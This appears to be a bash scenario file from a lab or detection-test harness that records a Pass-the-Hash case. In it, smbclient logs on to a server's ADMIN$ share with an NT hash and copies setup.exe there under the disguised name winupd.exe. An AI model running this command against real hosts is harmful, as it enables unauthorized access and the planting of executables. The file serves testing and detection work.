# shellcheck shell=bash disable=SC2034,SC2154  # settings are read, and variables set, by record
title='An executable copied to ADMIN$ by Pass-the-Hash'
about="Samba's client logs on with the account's NT hash and leaves an executable in ADMIN\$; nothing is run. The NTLM
messages are those of a logon with the password."
account='LAB\admin'

run() {
  client smbclient "//$server_ip/ADMIN\$" --pw-nt-hash -U "admin%$nt_hash_admin" -c 'ls; put setup.exe winupd.exe'
  connected 'IPC$' 'ADMIN$'
  wrote 'ADMIN$' winupd.exe setup.exe
  same_on_disk 'ADMIN$' winupd.exe setup.exe
}
